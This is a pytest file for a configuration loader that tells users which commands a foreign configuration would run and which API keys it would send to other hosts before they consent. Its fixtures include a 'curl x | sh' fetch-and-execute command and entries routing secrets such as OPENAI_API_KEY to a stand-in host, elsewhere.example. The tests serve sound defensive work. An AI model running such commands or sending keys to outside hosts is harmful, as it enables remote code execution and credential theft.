"""What a configuration from elsewhere would get hold of is told, and nothing else."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from spillover.catalogue import load as load_catalogue
from spillover.config.loader import load_document, load_source
from spillover.recovery.consent import Demands, demands

if TYPE_CHECKING:
    from pathlib import Path

    from spillover.config.loader import LoadedConfig

HERE = {"OPENAI_API_KEY": "sk-of-this-machine", "GROQ_API_KEY": "gsk-of-this-machine", "MINE": "x"}
FAR = "https://elsewhere.example/v1"


def loaded(**profile: Any) -> LoadedConfig:
    return load_document({"profiles": {"a": {"model": "m", **profile}}}, environ=HERE)


def asked(new: LoadedConfig, old: LoadedConfig | None = None, *unset: str) -> Demands:
    return demands(new, old, load_catalogue(), unset=unset)


def test_a_program_is_told_with_its_variables_as_they_are_written() -> None:
    server = {"command": ["sh", "-c", "curl x | sh"], "env": {"A": "${MINE}"}, "log": "l"}
    new = loaded(base_url="http://127.0.0.1:1/v1", upstream=server)

    assert asked(new).commands == ("'A=${MINE}' sh -c 'curl x | sh' >> l",)
    assert not asked(new, new)
    other = loaded(
        base_url="http://127.0.0.1:1/v1", upstream=server | {"env": {"A": "${PATH_2:-b}"}}
    )
    assert len(asked(other, new).commands) == 1


@pytest.mark.parametrize(
    ("profile", "told"),
    [
        ({"base_url": FAR, "api_key": "${OPENAI_API_KEY}"}, "${OPENAI_API_KEY} goes to https://elsewhere.example:443 (profiles.a.api_key)"),
        ({"base_url": FAR, "headers": {"X-A": "Bearer ${MINE}"}}, "Bearer ${MINE} goes to https://elsewhere.example:443 (profiles.a.headers.X-A)"),
        ({"base_url": FAR, "api_key": "file:/dev/null"}, "file:/dev/null goes to"),
        ({"base_url": "https://${MINE}.example/v1"}, "(profiles.a.base_url)"),
        ({"base_url": FAR, "model": "${MINE}"}, "(profiles.a.model)"),
        ({"provider": "groq", "api_key": "${OPENAI_API_KEY}"}, "goes to https://api.groq.com:443"),
    ],
)  # fmt: skip
def test_a_key_that_would_go_elsewhere_is_told(profile: dict[str, Any], told: str) -> None:
    new = loaded(**profile)

    (said,) = asked(new).keys

    assert told in said
    assert not asked(new, new)
    assert asked(new, loaded(base_url="https://other.example/v1", api_key="${MINE}")).keys == (
        said,
    )


@pytest.mark.parametrize(
    "profile",
    [
        {"provider": "groq"},
        {"provider": "groq", "api_key": "${GROQ_API_KEY}"},
        {"base_url": "https://api.openai.com/v1", "api_key": "${OPENAI_API_KEY}"},
        {"base_url": "http://localhost:1/v1", "api_key": "${OPENAI_API_KEY}"},
        {"base_url": FAR, "api_key": "key-in-the-file"},
        {"base_url": FAR, "api_key": "${NOBODY_HAS_IT}"},
    ],
)
def test_what_gives_nothing_away_is_not_asked_for(profile: dict[str, Any]) -> None:
    assert not asked(loaded(**profile), None, "NOBODY_HAS_IT")


def test_an_account_and_an_address_for_notices_are_asked_for_too() -> None:
    document = {
        "accounts": {"x": {"base_url": FAR, "api_key": "${MINE}"}},
        "profiles": {"a": {"account": "x", "model": "m"}},
        "notify": ["https://elsewhere.example/${OPENAI_API_KEY}"],
    }

    assert asked(load_document(document, environ=HERE)).keys == (
        "${MINE} goes to https://elsewhere.example:443 (accounts.x.api_key)",
        "https://elsewhere.example/${OPENAI_API_KEY} goes to notices (notify[0])",
    )


def test_another_catalogue_makes_no_address_a_providers_own(tmp_path: Path) -> None:
    (tmp_path / "catalogue.yaml").write_text(f"providers: {{groq: {{base_url: '{FAR}'}}}}")
    source = b"profiles: {a: {provider: groq, model: m}}"

    new = load_source(source, tmp_path / "spillover.yaml", environ=HERE)

    assert asked(new).keys == (
        "${GROQ_API_KEY} goes to https://elsewhere.example:443 (profiles.a)",
    )
